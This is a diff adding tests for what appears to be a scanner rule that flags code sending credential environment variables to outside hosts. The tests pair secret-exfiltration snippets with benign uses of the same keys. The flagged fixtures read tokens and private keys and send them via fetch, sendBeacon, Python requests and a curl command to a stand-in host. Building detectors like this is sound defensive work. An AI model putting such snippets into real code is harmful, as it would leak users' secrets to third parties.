@@ -62,6 +62,60 @@ test("good: the same in Python", () => {
   ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
 });
 
+const TO = 'https://collect.example.org/x';
+
+test('bad: keys of others, read by their names', () => {
+  for (const code of [
+    `fetch("${TO}", { body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env["AWS_SECRET_ACCESS_KEY"] }) })`,
+    `const names = ["GITHUB_TOKEN", "VAULT_TOKEN"]; fetch("${TO}", { body: names.map((name) => process.env[name]).join() })`,
+    `let all = ""; all += process.env.GH_TOKEN; all += process.env.SSH_PRIVATE_KEY; navigator.sendBeacon("${TO}", all)`,
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    `fetch("${TO}?t=" + process.env.NPM_TOKEN)`,
+    'fetch("https://api.github.com/gists", { headers: { authorization: process.env.GITHUB_TOKEN }, body: process.env.NPM_TOKEN })',
+    'fetch(u, { body: [process.env.NPM_TOKEN, process.env.DATABASE_URL].join() })',
+    `require("child_process").exec('curl -d "$NPM_TOKEN" ${TO}')`,
+  ]) assert.equal(worst(code), 'high', code);
+  const files = { 'index.js': 'require("./send")(require("./found"))', 'found.js': 'module.exports = { a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN }', 'send.js': `module.exports = (x) => fetch("${TO}", { body: x })` };
+  assert.deepEqual(findingsOf(rule, files).map(({ severity, file }) => [severity, file]), [['high', 'found.js']]);
+});
+
+test('bad: keys by their names in Python', () => {
+  assert.equal(worst(`import os, requests\nrequests.post("${TO}", json=[os.environ["NPM_TOKEN"], os.getenv("GH_TOKEN")])`, 'a.py'), 'critical');
+  assert.equal(worst(`import os, requests\nrequests.post("${TO}", json={"t": os.environ.get("PYPI_TOKEN")})`, 'a.py'), 'high');
+});
+
+test('good: a key goes to its own service, or to one that the user chose', () => {
+  for (const code of [
+    'fetch("https://api.openai.com/v1/chat/completions", { headers: { authorization: `Bearer ${process.env.OPENAI_API_KEY}` } })',
+    'fetch("https://api.github.com/user", { headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } })',
+    'fetch("https://registry.npmjs.org/-/whoami", { headers: { authorization: process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN } })',
+    'const { AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: key } = process.env; fetch(`https://s3.${region}.amazonaws.com/b`, sign(id, key)); fetch(endpoint, sign(id, key))',
+    'fetch(process.env.GITHUB_API_URL + "/user", { headers: { authorization: process.env.GITHUB_TOKEN } })',
+    'fetch("http://localhost:4873/demo", { headers: { authorization: process.env.NPM_TOKEN } })',
+    'require("child_process").exec("npm publish", { env: { NPM_TOKEN: process.env.NPM_TOKEN, GH_TOKEN: process.env.GH_TOKEN } })',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('good: of several keys, one is chosen', () => {
+  for (const code of [
+    'const token = process.env.GITHUB_TOKEN || process.env.GITLAB_TOKEN || process.env.BITBUCKET_TOKEN; fetch(api, { headers: { token } })',
+    'const token = [process.env.GITHUB_TOKEN, process.env.GITLAB_TOKEN].find(Boolean); fetch(api, { headers: { token } })',
+    'let token; if (host === "github") token = process.env.GITHUB_TOKEN; else token = process.env.GITLAB_TOKEN; fetch(api, { headers: { token } })',
+    'const config = { npm: process.env.NPM_TOKEN, github: { token: process.env.GITHUB_TOKEN } }; fetch("https://api.github.com/user", { headers: { authorization: config.github.token } }); fetch("https://registry.npmjs.org/x", { headers: { authorization: config.npm } })',
+    'const ask = (u, token) => fetch(u, { headers: { token } }); ask(a, process.env.GITHUB_TOKEN); ask(b, process.env.GITLAB_TOKEN)',
+    'const HIDDEN = ["NPM_TOKEN", "GITHUB_TOKEN"]; const hide = (text) => HIDDEN.reduce((all, name) => all.replaceAll(process.env[name], "***"), text); console.log(hide(text)); fetch(u)',
+    'module.exports = { db: process.env.DATABASE_URL, aws: process.env.AWS_SECRET_ACCESS_KEY }; fetch("https://example.org")',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('good: keys in Python', () => {
+  for (const code of [
+    'import os, requests\nrequests.get("https://api.github.com/user", headers={"authorization": os.environ["GITHUB_TOKEN"]})',
+    'import os, requests\ntoken = os.getenv("GITHUB_TOKEN") or os.getenv("GITLAB_TOKEN")\nrequests.get(url, headers={"token": token})',
+  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
+
 test('good: one member of an object is sent, another holds the environment', () => {
   for (const code of [
     'const o = { url: u }; o.env = process.env; fetch(o.url)',
